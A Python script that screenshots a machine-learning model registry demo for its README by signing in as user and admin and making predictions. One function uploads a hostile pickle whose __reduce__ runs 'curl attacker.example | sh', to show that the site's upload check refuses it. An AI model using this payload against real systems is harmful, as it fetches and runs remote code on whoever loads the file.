"""The pictures of the README: `make pictures`.

Starts the demo in a folder of its own, uses it as people do, and writes what the pages show into
docs/pictures/. No row is made by hand: every number in a picture comes from a prediction.
"""

import io
import os
import pickle
import re
import subprocess
import sys
import tempfile
from pathlib import Path

from dotenv import dotenv_values
from PIL import Image
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.browser.conftest import CHROMIUM, FLAGS, REPOSITORY, SIZES, predict, result_of
from tests.clocks import PATIENCE_SECONDS

PICTURES = REPOSITORY / "docs" / "pictures"
MAX_BYTES = 150_000
AMOUNTS = (*range(30_000, 8_000, -1_500), 6_000, 18_000)


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="pictures-") as folder:
        environment = os.environ | {
            "STACK_DIR": folder,
            "PREDICTIONS_PER_MINUTE": "1000",
            "DATABASE_STATEMENT_TIMEOUT_MS": str(PATIENCE_SECONDS * 1000),
        }
        manage = [sys.executable, "manage.py"]
        try:
            subprocess.run([*manage, "up", "--detach"], env=environment, cwd=REPOSITORY, check=True)
            values = dotenv_values(Path(folder) / "env")
            take_all(values["SITE_URL"] or "", values["DEMO_PASSWORD"] or "")
        finally:
            subprocess.run([*manage, "down"], env=environment, cwd=REPOSITORY, check=True)
    return 0


def take_all(url: str, password: str) -> None:
    """Take every picture of the demo that runs at this address."""
    expect.set_options(timeout=PATIENCE_SECONDS * 1000)
    PICTURES.mkdir(exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        person = signed_in(browser, url, password, "user")
        for slug in ("iris-species", "diabetes-progression"):
            for _ in range(5):
                person.goto(f"/models/{slug}/?typical=1")
                predict(person)
                result_of(person, re.compile("Iris|points"))
        for amount in AMOUNTS:
            predict_loan(person, amount=amount)
        take(person, "result")
        person.get_by_role("link", name="Compare").first.click()
        take(person, "comparison")
        phone = signed_in(browser, url, password, "user", size="phone", color_scheme="dark")
        predict_loan(phone, amount=18_000)
        take(phone, "phone")
        admin = signed_in(browser, url, password, "admin")
        admin.goto("/monitoring/")
        admin.get_by_role("link", name="Today", exact=True).click()
        take(admin, "monitoring")
        upload_a_file_that_attacks(admin)
        take(admin, "refused")
        browser.close()


def predict_loan(page: Page, *, amount: int) -> None:
    """Ask about the demo's self-employed applicant, and wait for what moved the answer."""
    page.goto("/models/loan-repayment/?typical=1")
    for label, value in {"Age": 34, "Missed payments": 2, "Amount": amount}.items():
        page.get_by_label(label).fill(str(value))
    page.get_by_text("Self-employed").click()
    page.get_by_text("60 months").click()
    predict(page)
    result_of(page, re.compile("Likely"))
    moved = page.locator("#contributions ul.contrib:not([aria-hidden]) li")
    expect(moved.first).to_be_visible()


class Attack:
    """What runs a command wherever its file is opened by `pickle.load`."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("curl attacker.example | sh",)


def upload_a_file_that_attacks(page: Page) -> None:
    page.goto("/admin/models_registry/registeredmodel/")
    page.get_by_role("link", name="Loan repayment").click()
    page.click("text=Upload a version")
    file = {"name": "gift.pkl", "mimeType": "application/octet-stream"}
    page.set_input_files("input[name=file]", file | {"buffer": pickle.dumps(Attack())})  # type: ignore[arg-type]
    page.click("text=Upload and inspect")
    expect(page.locator(".check").first).to_be_visible()
    expect(page.locator("main")).to_contain_text("posix.system")


def signed_in(
    browser: Browser,
    url: str,
    password: str,
    person: str,
    size: str = "desktop",
    color_scheme: str = "light",
) -> Page:
    width, height = SIZES[size]
    context = browser.new_context(
        base_url=url,
        viewport={"width": width, "height": height},
        color_scheme=color_scheme,  # type: ignore[arg-type]
        device_scale_factor=2 if size == "phone" else 1,
        reduced_motion="reduce",
    )
    context.set_default_timeout(PATIENCE_SECONDS * 1000)
    page = context.new_page()
    page.goto("/accounts/login/")
    page.fill("input[name=login]", f"{person}@example.com")
    page.fill("input[name=password]", password)
    page.click("main form button.btn-primary")
    page.wait_for_selector("header .avatar")
    page.goto("/notifications/")
    for button in page.get_by_role("button", name="Mark all read").all():
        button.click()
    page.goto("/models/loan-repayment/")
    for button in page.get_by_role("button", name=re.compile("^Dismiss")).all():
        button.click()
        expect(button).to_be_hidden()
    return page


def take(page: Page, name: str) -> None:
    """Write what the window shows as docs/pictures/<name>.webp, of at most 150 kB.

    On a machine that is busy with this, a probe of a part may time out: wait for the alarm to go.
    """
    while page.get_by_text("Look at the site's health").count():
        page.wait_for_timeout(5_000)
        page.reload()
    page.wait_for_load_state("networkidle")
    page.evaluate("document.activeElement?.blur()")
    shot = Image.open(io.BytesIO(page.screenshot(animations="disabled")))
    file = PICTURES / f"{name}.webp"
    shot.convert("RGB").save(file, quality=82, method=6)
    size = file.stat().st_size
    if size > MAX_BYTES:
        raise SystemExit(f"{file} has {size} bytes, more than {MAX_BYTES}.")
    print(f"{file.relative_to(REPOSITORY)}: {size / 1000:.0f} kB", flush=True)


if __name__ == "__main__":
    sys.exit(main())
